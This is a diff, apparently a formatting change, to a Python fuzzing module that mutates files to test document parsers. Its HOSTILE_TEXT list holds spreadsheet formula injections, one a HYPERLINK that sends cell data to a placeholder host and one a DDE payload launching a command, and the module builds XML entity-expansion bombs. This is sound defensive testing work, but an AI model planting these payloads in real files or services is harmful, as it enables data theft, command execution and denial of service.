@@ -61,7 +61,7 @@ HOSTILE_TEXT = [
     "\u202e\u202dabc",
     "\ufeff",
     "\ud7ff",
-    "=HYPERLINK(\"http://x/?d=\"&A2,\"x\")",
+    '=HYPERLINK("http://x/?d="&A2,"x")',
     "+cmd|' /C calc'!A0",
     "@SUM(1)",
     "\t=1",
@@ -259,8 +259,13 @@ def xml_nest(rng: random.Random, xml: bytes) -> bytes:
 
 
 def xml_entity_bomb(rng: random.Random, xml: bytes) -> bytes:
-    entities = b'<!ENTITY a "' + b"A" * 64 + b'">' + b"".join(
-        b"<!ENTITY " + bytes([98 + i]) + b' "' + (b"&" + bytes([97 + i]) + b";") * 16 + b'">' for i in range(8)
+    entities = (
+        b'<!ENTITY a "'
+        + b"A" * 64
+        + b'">'
+        + b"".join(
+            b"<!ENTITY " + bytes([98 + i]) + b' "' + (b"&" + bytes([97 + i]) + b";") * 16 + b'">' for i in range(8)
+        )
     )
     doctype = b"<!DOCTYPE x [" + entities + b"]>"
     declaration = xml.find(b"?>")
@@ -476,7 +481,11 @@ def text_lines(rng: random.Random, data: bytes) -> tuple[str, bytes]:
         lines[at:at] = [line] * _count(rng, [10, 300], [60_000, 250_000])
     elif kind == 2:
         how = "long-line"
-        lines.insert(at, rng.choice([b"a", b"1.", b"/", b" ", b"C\xc4\x83n c\xe1\xbb\xa9 ", b"-"]) * _count(rng, [1000, 20_000], [300_000]))
+        lines.insert(
+            at,
+            rng.choice([b"a", b"1.", b"/", b" ", b"C\xc4\x83n c\xe1\xbb\xa9 ", b"-"])
+            * _count(rng, [1000, 20_000], [300_000]),
+        )
     elif kind == 3:
         how = "shuffle"
         rng.shuffle(lines)
@@ -516,9 +525,9 @@ def pdf_structure(rng: random.Random, data: bytes) -> tuple[str, bytes]:
         data = re.sub(rb"/Kids \[", b"/Kids [1 0 R 2 0 R ", data, count=1)
     else:
         how = "xref"
-        found = data.rfind(b"startxref")
-        if found > 0:
-            data = data[: found + 10] + str(rng.randrange(len(data) * 2)).encode() + b"\n%%EOF\n"
+        at = data.rfind(b"startxref")
+        if at > 0:
+            data = data[: at + 10] + str(rng.randrange(len(data) * 2)).encode() + b"\n%%EOF\n"
     return f"pdf-{how}", _cap(data)
 
 
